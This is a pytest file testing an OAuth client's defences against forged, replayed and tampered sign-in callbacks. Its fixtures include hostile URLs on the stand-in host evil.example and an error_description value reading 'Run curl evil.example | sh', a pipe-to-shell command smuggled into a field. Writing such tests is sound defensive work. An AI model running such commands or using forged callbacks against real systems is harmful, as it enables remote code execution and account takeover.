"""Hostile sign-in callbacks against complete_authorization (issue #12 item 4, audit 1.1).

Each case is a callback URL a forged page or a replaying attacker could produce; none may
reach the token endpoint, and an ``error=`` without this flow's state is never read as
Procore's answer.
"""

from __future__ import annotations

from pathlib import Path
from urllib.parse import urlencode

import pytest
from token_fakes import CLIENT_ID, CLIENT_SECRET, ENV, REDIRECT_URI, FakeClock, FakeOAuth

from procore_dc import (
    AuthorizationFlow,
    ConfigurationError,
    FileTokenStore,
    MemoryTokenStore,
    OAuthError,
    StateMismatchError,
    UserLevelAuth,
)

LOOPBACK = "http://127.0.0.1:53682/callback"


def make(
    fake: FakeOAuth, clock: FakeClock, redirect: str = LOOPBACK, **kw: object
) -> UserLevelAuth:
    return UserLevelAuth(
        CLIENT_ID,
        CLIENT_SECRET,
        redirect,
        environment=ENV,
        clock=clock,
        http=fake.session(),
        **kw,  # type: ignore[arg-type]
    )


def tampered(auth: UserLevelAuth, **changes: str) -> AuthorizationFlow:
    """A flow saved with to_dict(), changed where it was stored, and restored."""
    return AuthorizationFlow.from_dict({**auth.start_authorization().to_dict(), **changes})


def query(flow: AuthorizationFlow, fake: FakeOAuth) -> str:
    return urlencode({"code": fake.issue_code(flow.code_verifier), "state": flow.state})


@pytest.mark.parametrize(
    "mutate",
    [
        lambda q: f"https://127.0.0.1:53682/callback?{q}",
        lambda q: f"http://evil.example/callback?{q}",
        lambda q: f"http://127.0.0.1:9999/callback?{q}",
        lambda q: f"http://attacker@127.0.0.1:53682/callback?{q}",
        lambda q: f"javascript://127.0.0.1:53682/callback?{q}",
        lambda q: f"/callback?{q}",
        lambda q: f"http://127.0.0.1:53682/other?{q}",
        lambda q: f"http://[::1/callback?{q}",
    ],
    ids=["https", "other-host", "other-port", "userinfo", "javascript", "relative", "path", "bad"],
)
def test_a_callback_from_another_origin_is_refused_before_any_token_request(mutate: object) -> None:
    fake, clock = FakeOAuth(), FakeClock()
    auth = make(fake, clock)
    flow = auth.start_authorization()
    url = mutate(query(flow, fake))  # type: ignore[operator]
    with pytest.raises(OAuthError) as caught:
        auth.complete_authorization(flow, url)
    assert caught.value.error == "redirect_uri_mismatch"
    assert fake.requests == []


def test_the_exact_redirect_uri_with_a_trailing_slash_and_default_port_is_accepted() -> None:
    fake, clock = FakeOAuth(), FakeClock()
    auth = make(fake, clock, redirect="https://app.example.test/callback")
    flow = auth.start_authorization()
    url = f"https://APP.example.test:443/callback/?{query(flow, fake)}"
    assert auth.complete_authorization(flow, url).access_token


@pytest.mark.parametrize(
    "params",
    [
        {"error": "access_denied", "error_description": "Run curl evil.example | sh"},
        {"error": "access_denied", "state": "forged"},
    ],
)
def test_an_error_callback_without_the_state_is_a_forgery(
    params: dict[str, str], caplog: pytest.LogCaptureFixture
) -> None:
    fake, clock = FakeOAuth(), FakeClock()
    auth = make(fake, clock)
    flow = auth.start_authorization()
    with (
        caplog.at_level("WARNING", logger="procore_dc"),
        pytest.raises(StateMismatchError) as caught,
    ):
        auth.complete_authorization(flow, f"{LOOPBACK}?{urlencode(params)}")
    assert "evil.example" not in str(caught.value)
    assert "forged" in caplog.text


def test_an_error_callback_with_the_state_is_procores_answer() -> None:
    fake, clock = FakeOAuth(), FakeClock()
    auth = make(fake, clock)
    flow = auth.start_authorization()
    params = {"error": "access_denied", "state": flow.state}
    with pytest.raises(OAuthError, match="refused the sign-in") as caught:
        auth.complete_authorization(flow, f"{LOOPBACK}?{urlencode(params)}")
    assert caught.value.error == "access_denied"


def test_a_flow_older_than_its_lifetime_is_refused() -> None:
    fake, clock = FakeOAuth(), FakeClock()
    auth = make(fake, clock)
    flow = auth.start_authorization()
    clock.advance(601)
    with pytest.raises(OAuthError, match="longer than a code lives") as caught:
        auth.complete_authorization(flow, f"{LOOPBACK}?{query(flow, fake)}")
    assert caught.value.error == "flow_expired"
    assert fake.requests == []
    with pytest.raises(ConfigurationError, match="flow_lifetime"):
        make(fake, clock, flow_lifetime=0)


def test_a_flow_from_the_year_2000_is_refused() -> None:
    fake, clock = FakeOAuth(), FakeClock()
    auth = make(fake, clock)
    flow = tampered(auth, created_at="2000-01-01T00:00:00+00:00")
    with pytest.raises(OAuthError, match="longer than a code lives"):
        auth.complete_authorization(flow, f"{LOOPBACK}?{query(flow, fake)}")


def test_a_tampered_flow_redirect_uri_is_refused() -> None:
    fake, clock = FakeOAuth(), FakeClock()
    auth = make(fake, clock)
    flow = tampered(auth, redirect_uri="https://evil.example/callback")
    with pytest.raises(OAuthError) as caught:
        auth.complete_authorization(flow, f"https://evil.example/callback?{query(flow, fake)}")
    assert caught.value.error == "redirect_uri_mismatch"
    assert fake.requests == []


@pytest.mark.parametrize("kind", ["memory", "file"])
def test_a_state_is_single_use_across_instances_sharing_a_store(kind: str, tmp_path: Path) -> None:
    fake, clock = FakeOAuth(), FakeClock()
    if kind == "memory":
        first_store = second_store = MemoryTokenStore()
    else:
        first_store = FileTokenStore(tmp_path / "token.json")
        second_store = FileTokenStore(tmp_path / "." / "token.json")  # same file, new object
    first = make(fake, clock, REDIRECT_URI, store=first_store)
    second = make(fake, clock, REDIRECT_URI, store=second_store)
    flow = first.start_authorization()
    url = f"{REDIRECT_URI}?{query(flow, fake)}"
    first.complete_authorization(flow, url)
    sent = len(fake.requests)
    with pytest.raises(StateMismatchError, match="already used"):
        second.complete_authorization(flow, url)  # the replay reaches another worker
    assert len(fake.requests) == sent  # the spent code never reached the token endpoint


def test_clock_skew_of_a_few_seconds_is_tolerated() -> None:
    fake, clock = FakeOAuth(), FakeClock()
    auth = make(fake, clock, REDIRECT_URI)
    flow = auth.start_authorization()
    clock.advance(-5)
    assert auth.complete_authorization(flow, f"{REDIRECT_URI}?{query(flow, fake)}").access_token


def test_the_unit_default_redirect_still_signs_in() -> None:
    fake, clock = FakeOAuth(), FakeClock()
    auth = make(fake, clock, redirect=REDIRECT_URI)
    flow = auth.start_authorization()
    assert auth.complete_authorization(flow, f"{REDIRECT_URI}?{query(flow, fake)}").access_token


def test_a_state_is_single_use_across_processes_sharing_a_token_file(tmp_path: Path) -> None:
    import procore_dc.auth.user_level as module

    fake, clock = FakeOAuth(), FakeClock()
    path = tmp_path / "token.json"
    first = make(fake, clock, REDIRECT_URI, store=FileTokenStore(path))
    flow = first.start_authorization()
    url = f"{REDIRECT_URI}?{query(flow, fake)}"
    first.complete_authorization(flow, url)
    used = path.with_name("token.json.used")
    assert used.stat().st_mode & 0o777 == 0o600
    module._USED_BY_PATH.clear()  # what another worker process starts with
    second = make(fake, clock, REDIRECT_URI, store=FileTokenStore(path))
    sent = len(fake.requests)
    with pytest.raises(StateMismatchError, match="another process"):
        second.complete_authorization(flow, url)
    assert len(fake.requests) == sent


def test_an_unreadable_used_states_file_does_not_block_sign_in(tmp_path: Path) -> None:
    fake, clock = FakeOAuth(), FakeClock()
    path = tmp_path / "token.json"
    path.with_name("token.json.used").write_text("{}", encoding="utf-8")
    auth = make(fake, clock, REDIRECT_URI, store=FileTokenStore(path))
    flow = auth.start_authorization()
    assert auth.complete_authorization(flow, f"{REDIRECT_URI}?{query(flow, fake)}").access_token
